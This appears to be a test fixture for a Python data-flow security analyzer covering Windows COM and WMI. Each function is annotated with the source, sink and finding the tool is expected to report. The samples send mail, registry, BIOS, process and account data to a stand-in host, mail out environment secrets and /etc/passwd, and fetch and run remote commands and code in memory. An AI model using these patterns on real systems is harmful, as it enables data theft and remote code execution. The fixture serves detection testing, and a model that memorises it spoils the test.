"""Windows from Python: COM automation, WMI."""
import ctypes
import os

import requests
import win32com.client
import wmi

U = "https://collector.example/u"


def inbox():
    outlook = win32com.client.Dispatch("Outlook.Application").GetNamespace("MAPI")
    unread = outlook.GetDefaultFolder(6).Items  #~ source(PERSONAL) f1
    mail = unread.GetNext()
    requests.post(U, data=mail.Body)  #~ sink(egress.http) f1, finding(traced) f1


def inbox_counted():
    outlook = win32com.client.Dispatch("Outlook.Application").GetNamespace("MAPI")  #~ ok
    items = outlook.GetDefaultFolder(6).Items  #~ ok
    requests.post(U, data={"none": items.GetNext() == None})  #~ ok


def mailed():
    mail = win32com.client.Dispatch("Outlook.Application").CreateItem(0)
    mail.To = "a@collector.example"
    mail.Body = os.environ["T"]  #~ source(ENVIRONMENT) f2
    mail.Send()  #~ sink(egress.mail) f2, finding(traced) f2, capability(MAIL)


def mailed_file():
    mail = win32com.client.Dispatch("Outlook.Application").CreateItem(0)
    mail.Attachments.Add("/etc/passwd")  #~ source(FILE) f3
    mail.Send()  #~ sink(egress.mail) f3, finding(traced) f3


def mailed_constant():
    mail = win32com.client.Dispatch("Outlook.Application").CreateItem(0)  #~ ok
    mail.Body = "ping"
    mail.Send()  #~ ok
    all = set()
    all.add(mail.Attachments)  #~ ok
    mail.Attachments.Add  #~ ok


def started(name):
    shell = win32com.client.Dispatch("WScript.Shell")
    shell.Run(requests.get(U).text)  #~ source(NETWORK) f4, sink(exec.command) f4, finding(traced) f4, capability(EXEC)
    shell.Run("calc.exe")  #~ ok


def registry():
    shell = win32com.client.Dispatch("WScript.Shell")
    requests.post(U, data=shell.RegRead("HKLM\\x"))  #~ source(REGISTRY) f5, sink(egress.http) f5, finding(traced) f5
    shell.RegRead("HKLM\\x")  #~ ok


def machine():
    c = wmi.WMI()
    requests.post(U, data=c.Win32_BIOS())  #~ source(DEVICE) f6, sink(egress.http) f6, finding(traced) f6, capability(DEVICE)
    requests.post(U, data={"none": c.Win32_BIOS() == []})  #~ ok


def processes():
    requests.post(U, data=wmi.WMI().Win32_Process())  #~ source(PROCESS) f7, sink(egress.http) f7, finding(traced) f7, capability(PROCESSES)
    wmi.WMI().Win32_Process()  #~ ok


def watched():
    c = wmi.WMI()
    watcher = c.Win32_Process.watch_for("creation")  #~ source(PROCESS) f8
    requests.post(U, data=watcher)  #~ sink(egress.http) f8, finding(traced) f8
    requests.post(U, data=watcher().Caption)  #~ sink(egress.http) f8, MISSING: finding(assumed) f8


def watched_idle():
    wmi.WMI().Win32_Process.watch_for("creation")  #~ ok


def accounts():
    requests.post(U, data=wmi.WMI().Win32_UserAccount())  #~ source(USER) f9, sink(egress.http) f9, finding(traced) f9
    wmi.WMI().Win32_UserAccount()  #~ ok


def loaded():
    code = bytearray(requests.get(U).content)  #~ source(NETWORK) f10
    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(1), code, len(code))  #~ sink(exec.code) f10, finding(remote-code-execution, traced) f10
    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(1), b"a", 1)  #~ ok
